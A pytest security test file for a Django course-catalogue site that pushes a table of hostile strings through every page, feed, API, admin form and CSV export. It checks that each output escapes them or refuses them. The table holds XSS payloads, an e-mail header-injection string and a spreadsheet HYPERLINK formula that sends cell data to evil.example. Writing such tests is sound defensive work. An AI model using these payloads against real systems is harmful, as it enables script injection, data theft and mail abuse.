"""A table of hostile strings pushed through every form and every output format.

Two directions:

- Stored: an editor (or a compromised staff account) saves hostile text in every text field of every
  public record; each output that shows those records must carry it escaped for its own format: HTML
  (no new element or attribute), JSON-LD (no way out of the <script> block), Atom and XCRI XML (well
  formed, text round-trips), iCalendar and vCard (no injected line), the JSON API (exact round trip),
  the admin's own pages.
- Submitted: a visitor sends hostile text in query parameters and forms (search, list filters, the
  enquiry form, the admin login); the answer is a page or a clear 4xx, never a 500, and what comes back
  or goes out (pages, stored enquiries, notification e-mails) is escaped or refused.

Outputs that colleagues have not built yet are skipped by name, with the reason; they join in as
their URL names appear.
"""

import json
import re

import pytest
from django.core import mail
from django.urls import NoReverseMatch, reverse
from lxml import etree
from lxml import html as lxml_html

from tests import factories

# id -> hostile text. Stored values are cut to each field's max_length (as the admin form would).
HOSTILE = {
    "script-tag": '<script>alert("xss")</script>',
    "script-close": "</script><script>alert(1)</script><!--",
    "attribute-breakout": '"><img src=x onerror=alert(1)>',
    "single-quotes": "' onmouseover='alert(1)' data-x='",
    "entities-and-comment": "&lt;b&gt; &amp; &#x3C;script&#x3E; <!-- -->",
    "rtl-override": "Dr Zoë \u202eexe.nimda\u202c O\u2019Neil",
    "ten-thousand-characters": "Leadership " + "A" * 10_000,
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "header-injection": "Evil\r\nBcc: victim@example.com\r\nX-Injected: 1",
    "null-byte": "Null\x00Byte",
}
# PostgreSQL refuses NUL in text and every form refuses it, so it can never be stored: it is a
# submitted-only payload (see the form tests below).
STORABLE = {key: value for key, value in HOSTILE.items() if key != "null-byte"}

MARKUP_PAYLOADS = ("<script", "<img", "onerror=", "onmouseover=")


def fit(model, field: str, value: str) -> str:
    max_length = model._meta.get_field(field).max_length
    return value[:max_length] if max_length else value


def url_or_skip(name: str, *args) -> str:
    try:
        return reverse(name, args=args)
    except NoReverseMatch:
        pytest.skip(f"{name} is not built yet")


# ---------------------------------------------------------------------------------------------------------
# What escaped output looks like, per format


def assert_safe_html(body: str) -> lxml_html.HtmlElement:
    """No element, attribute or script that the hostile text could have added."""
    document = lxml_html.document_fromstring(body)
    handlers = document.xpath("//@*[starts-with(name(), 'on')]")
    assert not handlers, f"event-handler attributes in the page: {handlers[:3]}"
    assert not document.xpath("//img[@src='x']"), "an <img> from user text was rendered"
    for script in document.xpath("//script"):
        if script.get("src"):
            assert not script.text or not script.text.strip(), "a script with src also has inline code"
            continue
        if script.get("type") == "importmap":  # the admin's editor: our own static modules, under the nonce
            assert script.get("nonce")
            assert all(path.startswith("/static/") for path in json.loads(script.text)["imports"].values())
            continue
        assert script.get("type") == "application/ld+json", f"inline script in the page: {script.text[:80]!r}"
        assert "</" not in (script.text or "") and "<" not in (script.text or "")
        json.loads(script.text)
    # Quotes are harmless inside JSON-LD strings (checked above); everywhere else they must be escaped.
    markup = re.sub(r'<script type="application/ld\+json">.*?</script>', "", body, flags=re.S)
    for marker in ('<script>alert("xss")', "<script>alert(1)", "<img src=x onerror", "onmouseover='alert"):
        assert marker not in markup, f"raw {marker!r} in the page"
    return document


def json_ld_blocks(document) -> list:
    return [json.loads(script.text) for script in document.xpath("//script[@type='application/ld+json']")]


def strings_in(data) -> list[str]:
    if isinstance(data, str):
        return [data]
    if isinstance(data, dict):
        return [text for value in data.values() for text in strings_in(value)]
    if isinstance(data, list):
        return [text for value in data for text in strings_in(value)]
    return []


def shown(value: str) -> str:
    """A recognisable piece of the value, as any output shows it (first line, possibly truncated)."""
    return value.replace("\r", "").split("\n")[0][:60]


def assert_safe_xml(body: bytes, value: str) -> etree._Element:
    root = etree.fromstring(body, parser=etree.XMLParser(resolve_entities=False, no_network=True))
    texts = "\n".join(root.itertext())
    assert shown(value) in texts, "the stored text should be in the feed, escaped"
    assert not root.xpath("//*[local-name()='script']"), "an element came from user text"
    return root


def assert_no_injected_lines(body: str) -> None:
    """iCalendar and vCard: user line breaks must be escaped as \\n, never start a new property."""
    lines = body.replace("\r\n ", "").split("\r\n")  # unfold continuation lines first
    for line in lines:
        assert not line.startswith(("Bcc:", "X-Injected", "BEGIN:VEVENT\\", "EMAIL:attacker")), line
    assert "\r\nBcc:" not in body and "\nBcc:" not in body


# ---------------------------------------------------------------------------------------------------------
# A catalogue whose every text field holds the hostile string


@pytest.fixture(params=list(STORABLE), ids=list(STORABLE))
def hostile_key(request):
    return request.param


@pytest.fixture
def hostile(hostile_key):
    return STORABLE[hostile_key]


@pytest.fixture
def catalogue(db, hostile):
    from faculty.models import Person
    from organisations.models import Organisation
    from programmes.models import Programme
    from research.models import ResearchProject
    from topics.models import Topic
    from workstreams.models import WorkStream

    organisation = factories.OrganisationFactory(slug="hostile-organisation", name=fit(Organisation, "name", hostile))
    topic = factories.TopicFactory(slug="hostile-topic", name=fit(Topic, "name", hostile))
    person = factories.PersonFactory(
        slug="hostile-person",
        honorific=fit(Person, "honorific", hostile),
        given_name=fit(Person, "given_name", hostile),
        family_name=fit(Person, "family_name", hostile),
        job_title=fit(Person, "job_title", hostile),
        biography=hostile,
        phone="+44 121 414 0000",
        affiliation=organisation,
    )
    person.expertise.add(topic)
    work_stream = factories.WorkStreamFactory(
        slug="hostile-work-stream",
        title=fit(WorkStream, "title", hostile),
        summary=fit(WorkStream, "summary", hostile),
        body=hostile,
    )
    factories.GoalFactory(work_stream=work_stream, title=fit(WorkStream, "title", hostile), description=hostile)
    factories.KeyContactFactory(work_stream=work_stream, person=person, role_label=hostile[:100])
    programme = factories.ProgrammeFactory(
        slug="hostile-programme",
        title=fit(Programme, "title", hostile),
        summary=fit(Programme, "summary", hostile),
        overview=hostile,
        who_for=hostile,
        outcomes=hostile,
        structure=hostile,
        location=fit(Programme, "location", hostile),
        fees_and_funding=hostile,
    )
    programme.topics.add(topic)
    programme.work_streams.add(work_stream)
    factories.IntakeFactory(programme=programme, label=hostile[:100])
    factories.ProgrammePartnerFactory(programme=programme, organisation=organisation)
    factories.ProgrammeLeadFactory(programme=programme, person=person)
    project = factories.ResearchProjectFactory(
        slug="hostile-project",
        title=fit(ResearchProject, "title", hostile),
        summary=fit(ResearchProject, "summary", hostile),
        description=hostile,
    )
    project.work_streams.add(work_stream)
    factories.InvestigatorFactory(project=project, person=person)
    factories.ProjectOrganisationFactory(project=project, organisation=organisation)
    factories.ResearchOutputFactory(project=project, title=hostile[:300])
    return {"programme": programme, "person": person, "project": project, "work_stream": work_stream}


PAGES = [
    ("home", ()),
    ("programmes:list", ()),
    ("programmes:detail", ("hostile-programme",)),
    ("faculty:list", ()),
    ("faculty:detail", ("hostile-person",)),
    ("research:list", ()),
    ("research:detail", ("hostile-project",)),
    ("workstreams:list", ()),
    ("workstreams:detail", ("hostile-work-stream",)),
    ("contacts:contact", ()),
    ("contacts:privacy", ()),
    ("developers", ()),
    ("api:reference", ()),
]
# Each test below builds the hostile catalogue once and checks every output of one kind.


def test_stored_hostile_text_is_escaped_on_every_public_page(client, catalogue, hostile):
    for name, args in PAGES:
        response = client.get(url_or_skip(name, *args))
        assert response.status_code == 200, name
        document = assert_safe_html(response.content.decode())
        if args:  # a detail page shows the record's own text
            assert shown(hostile) in document.text_content().replace("\r", ""), name


def test_programme_json_ld_carries_the_hostile_title_as_data(client, catalogue, hostile):
    document = lxml_html.document_fromstring(
        client.get(reverse("programmes:detail", args=["hostile-programme"])).content
    )
    values = [text for block in json_ld_blocks(document) for text in strings_in(block)]
    assert any(shown(hostile) in value.replace("\r", "") for value in values)


def test_stored_hostile_text_cannot_break_out_of_json_ld(client, catalogue, hostile):
    for name, args in PAGES:
        body = client.get(url_or_skip(name, *args)).content.decode()
        # Every JSON-LD block ends at its own </script>: the text inside has no "<" or ">" at all.
        for block in re.findall(r'<script type="application/ld\+json">(.*?)</script>', body, re.S):
            assert "<" not in block and ">" not in block, name
            json.loads(block)


def test_search_results_escape_stored_and_submitted_text(client, catalogue, hostile):
    response = client.get(url_or_skip("search:results"), {"q": hostile[:200]})
    assert response.status_code == 200
    assert_safe_html(response.content.decode())


def test_search_highlights_stay_escaped_around_hostile_text(client, db, hostile):
    # The results page marks the words that matched inside titles and summaries; the text around and
    # between the marks is user text and must stay escaped.
    factories.ProgrammeFactory(title=f"Leadership {hostile}"[:200], summary=f"Leadership {hostile}"[:160])
    for query in ("leadership", f"leadership {hostile}"[:200]):
        response = client.get(url_or_skip("search:results"), {"q": query})
        assert response.status_code == 200
        document = assert_safe_html(response.content.decode())
        assert not document.xpath("//mark//*"), "only text inside a highlight"


def test_search_suggestions_return_stored_text_as_json(client, catalogue, hostile):
    for query in ("le", hostile[:200]):
        response = client.get(url_or_skip("search:suggest"), {"q": query})
        assert response.status_code == 200
        assert response["Content-Type"] == "application/json"
        response.json()


def test_api_lists_return_stored_text_as_json(client, catalogue, hostile):
    for name in ("api:programme-list", "api:person-list", "api:researchproject-list", "api:workstream-list"):
        response = client.get(url_or_skip(name))
        assert response.status_code == 200, name
        assert response["Content-Type"].startswith("application/json"), name
        assert any(shown(hostile) in value for value in strings_in(response.json())), name


def test_sitemap_stays_well_formed(client, catalogue):
    response = client.get(url_or_skip("sitemap"))
    assert response.status_code == 200
    root = etree.fromstring(response.content, parser=etree.XMLParser(resolve_entities=False, no_network=True))
    locations = root.xpath("//*[local-name()='loc']/text()")
    assert any(location.endswith("/programmes/hostile-programme/") for location in locations)


def test_atom_and_xcri_feeds_stay_well_formed_with_the_text_escaped(client, catalogue, hostile):
    for name, root_tag in [
        ("feeds:programmes-atom", "{http://www.w3.org/2005/Atom}feed"),
        ("feeds:research-atom", "{http://www.w3.org/2005/Atom}feed"),
        ("feeds:xcri-cap", "{http://xcri.org/profiles/1.2/catalog}catalog"),
    ]:
        response = client.get(url_or_skip(name))
        assert response.status_code == 200, name
        assert assert_safe_xml(response.content, hostile).tag == root_tag


def test_icalendar_feeds_escape_line_breaks_and_separators(client, catalogue, hostile):
    import icalendar

    for name, args in [("feeds:calendar", ()), ("feeds:programme-calendar", ("hostile-programme",))]:
        response = client.get(url_or_skip(name, *args))
        assert response.status_code == 200, name
        body = response.content.decode()
        assert_no_injected_lines(body)
        events = icalendar.Calendar.from_ical(body).walk("VEVENT")
        # One intake: its start and its deadline, and no event smuggled in through the text.
        assert len(events) == body.count("BEGIN:VEVENT") == 2, name
        assert all(shown(hostile) in str(event["SUMMARY"]).replace("\r", "") for event in events), name


def test_vcard_escapes_line_breaks_and_separators(client, catalogue, hostile):
    response = client.get(url_or_skip("faculty:vcard", "hostile-person"))
    assert response.status_code == 200
    body = response.content.decode()
    assert_no_injected_lines(body)
    unfolded = body.replace("\r\n ", "")
    assert unfolded.count("BEGIN:VCARD") == 1 and unfolded.count("END:VCARD") == 1
    properties = [line.split(":", 1)[0].split(";", 1)[0] for line in unfolded.split("\r\n") if line]
    assert properties.count("EMAIL") == 1 and properties.count("FN") == 1
    assert shown(hostile).replace(",", "\\,").replace(";", "\\;")[:40] in unfolded
    assert "\n" not in response["Content-Disposition"]


def test_api_returns_stored_text_exactly_as_json(client, catalogue, hostile):
    for name, args in [
        ("api:programme-detail", ("hostile-programme",)),
        ("api:person-detail", ("hostile-person",)),
        ("api:researchproject-detail", ("hostile-project",)),
        ("api:workstream-detail", ("hostile-work-stream",)),
        ("api:organisation-detail", ("hostile-organisation",)),
    ]:
        response = client.get(url_or_skip(name, *args))
        assert response.status_code == 200, name
        assert response["Content-Type"].startswith("application/json"), name
        assert response["X-Content-Type-Options"] == "nosniff"
        assert any(shown(hostile) in value for value in strings_in(response.json())), name


def test_admin_lists_and_forms_escape_stored_text(client, catalogue, hostile):
    client.force_login(factories.UserFactory(username="hostile-admin", is_superuser=True))
    records = {
        "programmes.programme": catalogue["programme"],
        "faculty.person": catalogue["person"],
        "research.researchproject": catalogue["project"],
        "workstreams.workstream": catalogue["work_stream"],
    }
    for model, record in records.items():
        app_label, model_name = model.split(".")
        for url in (
            reverse(f"admin:{app_label}_{model_name}_changelist"),
            reverse(f"admin:{app_label}_{model_name}_change", args=[record.pk]),
            reverse(f"admin:{app_label}_{model_name}_history", args=[record.pk]),
        ):
            response = client.get(url)
            assert response.status_code == 200, url
            assert_safe_html(response.content.decode())


@pytest.fixture
def hostile_enquiry(db, hostile):
    from contacts.models import Enquiry

    return factories.EnquiryFactory(
        name=fit(Enquiry, "name", hostile),
        organisation=fit(Enquiry, "organisation", hostile),
        role=fit(Enquiry, "role", hostile),
        timing=fit(Enquiry, "timing", hostile),
        message=hostile,
        internal_notes=hostile,
    )


def test_enquiry_text_from_the_public_is_escaped_in_the_staff_inbox(client, hostile_enquiry):
    # The classic stored-XSS path: a visitor writes, a member of staff reads it in the admin.
    client.force_login(factories.UserFactory(username="inbox-admin", is_superuser=True))
    for url in (
        reverse("admin:contacts_enquiry_changelist"),
        reverse("admin:contacts_enquiry_change", args=[hostile_enquiry.pk]),
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        assert_safe_html(response.content.decode())


def test_enquiry_csv_export_neutralises_formulas_in_every_cell(client, hostile_enquiry):
    import csv
    import io

    client.force_login(factories.UserFactory(username="inbox-admin", is_superuser=True))
    response = client.post(
        reverse("admin:contacts_enquiry_changelist"),
        {"action": "export_csv", "_selected_action": [hostile_enquiry.pk]},
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == 2
    for cell in rows[1]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # The name is there, whole: as it was, or behind the one apostrophe that disarms a formula.
    assert any(hostile_enquiry.name in (cell, cell[1:]) for cell in rows[1])


# ---------------------------------------------------------------------------------------------------------
# Submitted: query parameters and forms

ALL = list(HOSTILE)


@pytest.mark.parametrize("key", ALL)
@pytest.mark.parametrize(
    "name",
    [
        "home",
        "search:results",
        "search:suggest",
        "programmes:list",
        "research:list",
        "faculty:list",
        "api:programme-list",
        "api:person-list",
        "api:researchproject-list",
    ],
)
def test_hostile_query_parameters_give_a_page_or_a_4xx_never_a_500(client, db, key, name):
    url = url_or_skip(name)
    filters = ("q", "page", "kind", "sort", "level", "study_mode", "topic", "status", "letter", "format")
    params = dict.fromkeys(filters, HOSTILE[key])
    response = client.get(url, params)
    assert response.status_code < 500
    if response.status_code == 200 and response["Content-Type"].startswith("text/html"):
        assert_safe_html(response.content.decode())


def form_fields(body: str, form_id: str | None = None) -> dict:
    """The values a browser would submit from the first POST form on the page (or the one with form_id)."""
    document = lxml_html.document_fromstring(body)
    forms = [form for form in document.forms if (form.method or "").upper() == "POST"]
    form = next((form for form in forms if form_id is None or form.get("id") == form_id), None)
    if form is None:
        pytest.skip("the page has no form yet")
    data = {}
    for element in form.inputs:
        name = element.get("name")
        if not name:
            continue
        kind = (element.get("type") or "text").lower() if element.tag == "input" else element.tag
        if kind in {"checkbox", "radio"}:
            if name not in data:
                data[name] = element.get("value") or "on"
        elif kind == "select":
            options = [option.get("value") for option in element.xpath(".//option") if option.get("value")]
            data[name] = options[0] if options else ""
        elif kind not in {"submit", "button", "file"}:
            data[name] = element.value or ""
    return data


@pytest.fixture
def enquiry_form_settings(settings):
    settings.ENQUIRY_MIN_SECONDS = 0
    settings.ENQUIRY_RATE_LIMIT = 10_000


@pytest.mark.parametrize("key", ALL)
def test_enquiry_form_refuses_or_stores_hostile_text_safely_and_mails_clean_headers(
    client, db, enquiry_form_settings, key
):
    from contacts.models import Enquiry

    url = url_or_skip("contacts:contact")
    factories.ProgrammeFactory(slug="a-programme")
    page = client.get(url)
    data = form_fields(page.content.decode())
    hostile = HOSTILE[key]
    free_text = {"name", "organisation", "role", "timing", "message"}
    for field in free_text & set(data):
        data[field] = hostile[:5000]
    data["email"] = "visitor@example.nhs.uk"
    data.update(phone="", cohort_size="")

    response = client.post(url, data)

    assert response.status_code < 500
    if response.status_code in {200, 400}:  # refused: the form again, with a clear message, escaped
        document = assert_safe_html(response.content.decode())
        assert document.xpath("//*[contains(@class, 'invalid-feedback') or contains(@class, 'errorlist')]")
        assert not Enquiry.objects.exists()
        return
    assert response.status_code in {302, 303}
    enquiry = Enquiry.objects.get()
    # Multi-line text keeps its line breaks; one-line fields have them collapsed to spaces.
    assert "\r" not in enquiry.name and "\n" not in enquiry.name
    assert "\x00" not in enquiry.message
    for message in mail.outbox:
        email = message.message()
        for header, value in email.items():
            assert "\n" not in value and "\r" not in value, header
        assert "Bcc" not in email and "X-Injected" not in email
        assert message.bcc == []
        for content, mimetype in getattr(message, "alternatives", []):
            if mimetype == "text/html":
                assert_safe_html(content)


@pytest.mark.parametrize("key", ALL)
def test_staff_sign_in_form_escapes_a_hostile_username(client, db, key):
    response = client.post(reverse("admin:login"), {"username": HOSTILE[key][:150], "password": "x"})
    assert response.status_code == 200
    assert_safe_html(response.content.decode())


@pytest.mark.parametrize("key", ALL)
def test_admin_add_forms_store_or_refuse_hostile_text_and_show_it_escaped(client, db, key):
    from topics.models import Topic

    client.force_login(factories.UserFactory(username="hostile-admin", is_superuser=True))
    hostile = HOSTILE[key]
    response = client.post(
        reverse("admin:topics_topic_add"),
        {"name": hostile[:120], "slug": "hostile", "description": hostile},
        follow=True,
    )
    assert response.status_code == 200
    assert_safe_html(response.content.decode())
    if key == "null-byte":
        assert not Topic.objects.exists()  # "Null characters are not allowed."
        return
    topic = Topic.objects.get()
    assert topic.name == hostile[:120].replace("\r\n", "\n") or topic.name == hostile[:120].strip()
    assert_safe_html(client.get(reverse("admin:topics_topic_changelist")).content.decode())


# ---------------------------------------------------------------------------------------------------------
# The address itself (issue 22: items 6 and 7)


@pytest.mark.parametrize(
    "url",
    [
        "/api/programmes/%00/",
        "/api/research-projects/%00/",
        "/api/people/%00/",
        "/api/work-streams/%00/",
        "/api/organisations/%00/",
        "/programmes/%00/",
        "/programmes/?kind=%00",
        "/search/?q=Null%00Byte",
    ],
)
def test_a_nul_byte_in_the_address_is_a_400_not_a_500(client, db, url):
    response = client.get(url)
    assert response.status_code == 400


def test_a_nul_byte_in_an_admin_list_filter_is_a_400_not_a_500(admin_client):
    response = admin_client.get(reverse("admin:programmes_programme_changelist") + "?status__exact=%00")
    assert response.status_code == 400


@pytest.mark.parametrize("url", ["/api/a%20b", "/api/%ff", "/api/programmes/unknown/extra"])
def test_an_unknown_api_address_without_a_slash_is_a_json_404_not_a_redirect_loop(client, db, url):
    response = client.get(url)
    assert response.status_code == 404
    assert response.json() == {"detail": "Not found."}


def test_a_known_api_address_without_its_slash_is_redirected_once_keeping_the_query(client, db):
    response = client.get("/api/programmes?kind=open")
    assert response.status_code == 301
    assert response["Location"] == "/api/programmes/?kind=open"
    assert client.get(response["Location"]).status_code == 200


def test_an_api_client_gets_a_bad_address_answered_in_json_as_documented(client, db):
    response = client.get("/api/programmes/?topic=%00")
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert response.json() == {"detail": ["The address holds a NUL byte."]}
    page = client.get("/programmes/?kind=%00")
    assert page.status_code == 400 and page["Content-Type"].startswith("text/html")
